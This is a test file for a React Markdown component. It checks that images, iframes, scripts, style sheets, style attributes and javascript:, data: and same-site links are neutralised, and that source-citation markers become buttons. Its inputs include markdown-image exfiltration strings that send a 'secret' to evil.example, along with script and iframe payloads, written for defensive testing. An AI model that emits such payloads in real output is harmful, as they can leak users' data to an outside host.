import { MantineProvider } from '@mantine/core';
import i18next from 'i18next';
import { renderToStaticMarkup } from 'react-dom/server';
import { beforeAll, describe, expect, it } from 'vitest';

import en from '@/lib/i18n/en';

import { Markdown } from './Markdown';

function render(text: string, sources: number[] = []): string {
  return renderToStaticMarkup(
    <MantineProvider>
      <Markdown text={text} sources={sources} labelOfSource={(n) => `Source ${n}`} />
    </MantineProvider>,
  ).replace(/<style.*?<\/style>/gs, '');
}

beforeAll(async () => {
  const { initReactI18next } = await import('react-i18next');
  await i18next.use(initReactI18next).init({ lng: 'en', resources: { en: { translation: en } } });
});

describe('Markdown', () => {
  it.each([
    ['an image', '![secret](https://evil.example/?q=secret)'],
    ['an image by reference', '![a][x]\n\n[x]: https://evil.example/p.png'],
    ['an HTML image', '<img src="https://evil.example/p.png">'],
    ['an HTML frame', 'text <iframe src="https://evil.example"></iframe>'],
    ['a style sheet', '<link rel=stylesheet href=https://evil.example/a.css>'],
    ['a script', '<script src="https://evil.example/a.js"></script>'],
    ['a style attribute', '<p style="background:url(https://evil.example)">x</p>'],
  ])('fetches nothing for %s', (_name, text) => {
    const html = render(text);

    expect(html).not.toMatch(/<(img|iframe|link|script|video|audio|object|embed|source)\b/);
    expect(html).not.toMatch(/\s(src|srcset|style)=/);
  });

  it('shows an image as a link that names its host', () => {
    const html = render('![chart](https://pictures.example/c.png)');

    expect(html).toContain('Image: chart');
    expect(html).toContain('(pictures.example)');
  });

  it('opens links in a new tab without telling them where from', () => {
    const html = render('[docs](https://docs.example/a)');

    expect(html).toContain('href="https://docs.example/a"');
    expect(html).toContain('rel="noopener noreferrer"');
    expect(html).toContain('target="_blank"');
  });

  it.each([
    ['scripts', '[x](javascript:alert(1))'],
    ['data', '[x](data:text/html,hi)'],
    ['this site', '[x](/api/v1/auth/logout)'],
    ['a protocol-relative address', '[x](//evil.example)'],
  ])('makes no link to %s', (_name, text) => {
    expect(render(text)).not.toContain('<a ');
  });

  it('makes buttons of the markers that name a source, and of no others', () => {
    const html = render('First [1], both [1][2], none [7], `code [1]`.', [1, 2]);

    expect(html.match(/<button/g)).toHaveLength(3);
    expect(html).toContain('aria-label="Source 2"');
    expect(html).toContain('none [7]');
    expect(html).toContain('code [1]');
  });
});
